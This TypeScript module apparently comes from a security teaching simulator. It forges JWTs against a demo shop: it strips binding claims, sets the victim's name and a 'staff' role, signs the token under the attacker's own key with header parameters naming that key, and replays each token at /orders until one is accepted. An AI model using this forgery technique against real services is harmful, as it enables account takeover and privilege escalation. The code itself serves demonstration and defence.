/** What an attacker with an account needs to forge a token of the victim's, and presenting it. Not: the ways to forge (jose/forge, attacks/). */
import { decodeJwt, decodeProtectedHeader } from 'jose';
import { decodeJws } from '#jose/jws/jws';
import type { ForgedToken, ForgerHas } from '#jose/forgery/forgery';
import { sign, withParameters } from '#jose/forgery/header';
import { encodeUtf8 } from '#text/utf8';
import type { Approach, Hands } from './attack';
import { attackerKey, ATTACKER_PUBLIC_JWK } from './attacker-key';
import type { Mode } from '../mode';
import { credentialCalled } from '../named-credential';
import type { Setup } from '../run/setup';
import { USERNAME } from '../shop/shop';

/** Why a forgery of a token can't be tried in a mode; undefined: it can. */
export const noTokenToForge = (mode: Mode, setup: Setup): string | undefined => {
  if (credentialCalled(mode, 'access token', setup)) return undefined;
  return mode.checkedBy(setup) === 'itself'
    ? 'There is no token to forge. The cookie’s MAC uses a random secret and one algorithm, and the cookie can’t name another.'
    : 'There is no token to forge. The cookie is a random identifier, and the server keeps everything behind it.';
};

const isJwt = (value: string): boolean => value.split('.').length === 3;

/**
 * Takes the attacker's own token, and writes the claims anew: the victim's name, a role, and nothing that binds it.
 * @returns undefined when the attacker's account gave no token
 */
const forgerHas = async (hands: Hands): Promise<ForgerHas | undefined> => {
  const text = (await hands.ownAccount()).map(({ value }) => value).find((value) => isJwt(value));
  if (text === undefined) {
    hands.note('The attacker’s own login gave no token to start from.');
    return undefined;
  }
  const { cnf: _key, userFingerprint: _cookie, ...claims } = decodeJwt(text);
  return {
    token: decodeJws(text),
    header: JSON.stringify(decodeProtectedHeader(text)),
    payload: encodeUtf8(JSON.stringify({ ...claims, sub: USERNAME, role: 'staff' })),
    own: { privateKey: await attackerKey(), publicJwk: ATTACKER_PUBLIC_JWK },
  };
};

/** Asks for the victim's orders with one forged token after the other, until one is taken. */
const present = async (hands: Hands, forged: readonly ForgedToken[] | string): Promise<void> => {
  if (typeof forged === 'string') return hands.note(forged);
  for (const { label, compact } of forged) {
    const made = [{ type: 'token', value: compact }] as const;
    hands.note(
      label === undefined ? 'The attacker forges a token.' : `The attacker forges a token: ${label}.`,
      made,
    );
    // One after the other: the first that is taken is enough.
    const response = await hands.replay(made, 'GET', '/orders');
    if (response.status === 200) return;
  }
};

/**
 * What an attack does that forges a token, in the modes that have one.
 * @param forge makes tokens, to be shown one after the other; a sentence where there is none
 */
export const forging = (
  forge: (has: ForgerHas, hands: Hands) => Promise<readonly ForgedToken[] | string>,
): Approach => ({
  group: 'forged tokens',
  grants: ['an account'],
  scene: ['log-in', 'read-orders'],
  inapplicable: noTokenToForge,
  play: async (hands) => {
    const has = await forgerHas(hands);
    if (has) await present(hands, await forge(has, hands));
  },
});

/** The token under the attacker's own key. @param parameters of the header, that say where the key is */
export const underOwnKey = async (
  { header, payload, own }: ForgerHas,
  parameters: Readonly<Record<string, unknown>>,
): Promise<ForgedToken[]> => {
  const { alg, kid } = ATTACKER_PUBLIC_JWK;
  const named = withParameters(header, { alg, kid, ...parameters });
  return [{ compact: await sign(named, payload, alg, own.privateKey) }];
};
